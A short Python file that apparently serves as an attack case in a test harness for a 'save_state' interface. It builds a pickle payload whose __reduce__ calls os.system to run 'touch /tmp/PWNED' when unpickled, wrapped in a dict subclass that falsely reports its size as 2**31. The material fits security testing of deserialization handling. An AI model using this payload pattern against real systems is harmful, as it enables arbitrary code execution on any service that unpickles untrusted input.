"""Give as state what runs a command when it is unpickled, in a mapping that lies about its size."""

import os
import pickle

AT = "save_state"
EXPECT = r"returned:'Evil'"


class Command:
    def __reduce__(self):
        return os.system, ("touch /tmp/PWNED",)


class Evil(dict):
    def __len__(self):
        return 2**31

    def items(self):
        return iter([("a", pickle.dumps(Command()))] * 10)


def attack():
    return Evil(state=pickle.dumps(Command()))
